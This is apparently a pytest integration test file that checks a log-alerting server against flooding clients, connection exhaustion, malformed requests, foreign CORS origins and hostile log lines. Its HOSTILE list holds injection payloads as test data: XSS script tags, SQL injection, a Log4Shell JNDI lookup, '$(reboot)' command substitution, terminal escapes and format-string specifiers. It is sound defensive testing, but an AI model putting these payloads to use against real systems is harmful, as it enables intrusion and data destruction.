"""Clients that mean no good, at a real server: slow, flooding, from elsewhere; and lines of no log."""

from __future__ import annotations

import asyncio
import json
import socket
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
import uvicorn
from websockets.sync.client import connect

from haechi.config.serve import ServeConfig
from haechi.serve import run as server
from haechi.serve.keys import Keys
from haechi.storm.maker import make
from tests.conftest import Made
from tests.integration.serve_room import PATIENCE_S, serving, until

ELSEWHERE, CONSOLE = "http://evil.example", "https://console.example"
HOSTILE = (
    b"\x1b[2J\x1b]0;owned\x07 escapes",
    b'"}],"alerts":[{"number":1,"severity":"critical',
    b"\xff\xfe\xc0\xaf not UTF-8",
    b"</script><script>alert(1)</script><svg/onload=alert(1)>",
    b"' OR 1=1 -- ${jndi:ldap://192.0.2.1/x} $(reboot) `reboot`",
    "\u202etxt.exe\u2066 \u0000".encode(),
    b"%s%s%s%n %x" * 20,
    b'haechi_alerts_total{detector="x"} 99',
)


def test_a_flooding_client_is_held_back_and_others_are_not_kept_waiting(tmp_path: Path) -> None:
    with serving(tmp_path, requests_per_second=5, connections=16) as plane:
        with connect(plane.url.replace("http", "ws") + "/metrics") as stream:
            statuses = [plane.client.get("/health").status_code for _ in range(60)]
            assert set(statuses) == {200, 429}
            assert statuses.count(429) >= 30
            refused = next(
                answer
                for answer in iter(lambda: plane.client.get("/health"), None)
                if answer.status_code == 429
            )
            assert refused.headers["retry-after"] == "1"
            assert "requests a second" in refused.json()["detail"]
            before = json.loads(stream.recv(PATIENCE_S))["time"]
            until(lambda: json.loads(stream.recv(PATIENCE_S))["time"] != before)
        until(lambda: plane.client.get("/health").status_code == 200)


def test_more_connections_than_are_answered(tmp_path: Path) -> None:
    with serving(tmp_path, connections=8, requests_per_second=10_000) as plane:

        def opened() -> socket.socket:
            return socket.create_connection(("127.0.0.1", plane.port), timeout=PATIENCE_S)

        crowd = [opened() for _ in range(10)]
        request = (
            f"GET /health HTTP/1.1\r\nHost: 127.0.0.1:{plane.port}\r\nConnection: close\r\n\r\n".encode()
        )
        crowd[-1].sendall(request)
        assert crowd[-1].recv(4096).startswith(b"HTTP/1.1 503")
        more = [opened() for _ in range(20)]
        # Far beyond that, nothing is even listened to.
        until(lambda: any(_is_closed(one) for one in more))
        for one in (*crowd, *more):
            one.close()
        until(lambda: _health(plane.url) == 200)


def _is_closed(one: socket.socket) -> bool:
    one.setblocking(False)
    try:
        return one.recv(1) == b""
    except BlockingIOError:
        return False
    except ConnectionResetError:
        return True


def _health(url: str) -> int | None:
    try:
        return httpx.get(f"{url}/health").status_code
    except httpx.HTTPError:
        return None


@pytest.mark.parametrize(
    ("begin", "answer"),
    [
        (b"POST /sinks HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 100\r\n\r\n{", b"HTTP/1.1 408"),
        (b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nX: " + b"x" * 80_000, b"HTTP/1.1 400"),
        (b"GET /health HTTP/1.1\r\nHost: evil.example\r\n\r\n", b"HTTP/1.1 421"),
        (b"POST /sinks HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 99999999\r\n\r\n", b"HTTP/1.1 413"),
        (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n", b"HTTP/1.1 400"),
    ],
)
def test_requests_that_are_none(tmp_path: Path, begin: bytes, answer: bytes) -> None:
    with (
        serving(tmp_path, request_timeout=2) as plane,
        socket.create_connection(("127.0.0.1", plane.port), timeout=PATIENCE_S) as client,
    ):
        client.sendall(begin)
        got = b""
        while piece := client.recv(4096):
            got += piece
            if b"421" in got:
                break
        assert got.startswith(answer)
        until(lambda: plane.client.get("/health").status_code == 200)


def test_a_client_that_does_not_take_its_answer_is_cut_off(monkeypatch: pytest.MonkeyPatch) -> None:
    """With the server's own protocol, before an application whose answer no buffer holds."""
    monkeypatch.setattr(server, "TAKE_S", 0.2)

    async def endless(scope: Any, receive: Callable[[], Any], send: Callable[[Any], Any]) -> None:
        await send({"type": "http.response.start", "status": 200, "headers": []})
        for _ in range(4096):
            await send({"type": "http.response.body", "body": b"x" * 65_536, "more_body": True})

    async def scene() -> int:
        config = server._uvicorn(ServeConfig(port=0), Keys(None, lambda: 0.0))
        config.loaded_app, config.lifespan, config.port = endless, "off", 0
        running = uvicorn.Server(config)
        task = asyncio.create_task(running._serve())
        async with asyncio.timeout(PATIENCE_S):
            while not running.started:
                await asyncio.sleep(0.01)
            port = running.servers[0].sockets[0].getsockname()[1]
            with socket.create_connection(("127.0.0.1", port)) as client:
                client.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
                while not running.server_state.connections:
                    await asyncio.sleep(0.01)
                while running.server_state.connections:
                    await asyncio.sleep(0.01)
            running.should_exit = True
            await task
        return len(running.server_state.connections)

    assert asyncio.run(scene()) == 0


def test_pages_of_other_origins(tmp_path: Path) -> None:
    asks = {"access-control-request-method": "POST", "access-control-request-headers": "authorization"}
    with serving(tmp_path / "none") as plane:
        answer = plane.client.options("/storms", headers={"origin": CONSOLE, **asks})
        assert not [name for name in answer.headers if name.startswith("access-control-")]
        for origin in (CONSOLE, ELSEWHERE, "null"):
            assert plane.client.post("/sinks", json={}, headers={"origin": origin}).status_code == 403
            assert (
                "access-control-allow-origin"
                not in plane.client.get("/health", headers={"origin": origin}).headers
            )
    with serving(tmp_path / "one", origins=[CONSOLE], demand_token=True) as plane:
        answer = plane.client.options("/storms", headers={"origin": CONSOLE, **asks})
        assert answer.status_code == 200
        assert answer.headers["access-control-allow-origin"] == CONSOLE
        assert "authorization" in answer.headers["access-control-allow-headers"].lower()
        assert "access-control-allow-credentials" not in answer.headers
        for origin in (ELSEWHERE, "null", CONSOLE + ".evil.example"):
            refused = plane.client.options("/storms", headers={"origin": origin, **asks})
            assert refused.status_code == 401
            assert "access-control-allow-origin" not in refused.headers
        token = (tmp_path / "one" / "state" / "token").read_text().strip()
        bearer = {"authorization": f"Bearer {token}"}
        read = plane.client.get("/status", headers={"origin": CONSOLE, **bearer})
        assert (read.status_code, read.headers["access-control-allow-origin"]) == (200, CONSOLE)
        refused = plane.client.post("/sinks", json={"ports": "x"}, headers={"origin": CONSOLE, **bearer})
        assert refused.status_code == 422
        assert (
            plane.client.post("/sinks", json={}, headers={"origin": ELSEWHERE, **bearer}).status_code == 403
        )


def test_log_lines_are_text_and_nothing_else(tmp_path: Path, made: Made) -> None:
    make(tmp_path / "one.log", count=1, eps=1, seed=1, form="iso", profile="system")
    head = (tmp_path / "one.log").read_bytes().partition(b": ")[0]
    log = tmp_path / "app.log"
    log.write_bytes(made.log.read_bytes() + b"".join(head + b": " + line + b"\n" for line in HOSTILE))
    rules = [{"name": "seen", "metric": "alerts_low", "above": -1}]
    with (
        Receiver() as receiver,
        serving(
            tmp_path,
            read=[str(tmp_path), str(made.bundles)],
            rules=rules,
            channels=[{"name": "hook", "url": f"json://127.0.0.1:{receiver.port}"}],
            requests_per_second=1000,
        ) as plane,
    ):
        job = plane.post("/detectors", {"bundle": str(made.bundle), "sources": ["app.log"]})
        count = until(
            lambda: (found := plane.get(f"/detectors/{job['id']}"))["state"] == "done" and found["result"]
        )["alerts"]
        page = until(lambda: (found := plane.get("/alerts", limit=500))["kept"] == count and found)
        assert page["unreadable"] == 0
        texts = [line["text"] or "" for entry in page["alerts"] for line in entry["alert"]["lines"]]
        for wanted in ("escapes", "not UTF-8", "<svg/onload=alert(1)>", "$(reboot)", '"}],"alerts":[{'):
            assert any(wanted in text for text in texts), wanted
        # What a line says is neither a figure, nor an alert, nor a header, nor a message.
        assert {entry["job"] for entry in page["alerts"]} == {job["id"]}
        raw = plane.client.get("/alerts", params={"limit": 500})
        assert raw.headers["content-type"] == "application/json"
        assert raw.headers["x-content-type-options"] == "nosniff"
        assert not any(byte < 0x20 for byte in raw.content)
        figures = plane.client.get("/metrics").text
        assert 'haechi_alerts_total{detector="x"}' not in figures
        assert "escapes" not in figures
        until(lambda: receiver.heard)
        for said in receiver.heard:
            assert not any(word in said for word in (b"escapes", b"reboot", b"script", b"txt.exe"))


class Receiver:
    """Hears messages of channels."""

    def __enter__(self) -> Receiver:
        from http.server import BaseHTTPRequestHandler, HTTPServer

        self.heard: list[bytes] = []
        heard = self.heard

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                heard.append(self.rfile.read(int(self.headers["content-length"])))
                self.send_response(200)
                self.end_headers()

            def log_message(self, *_: Any) -> None:
                pass

        self._server = HTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()
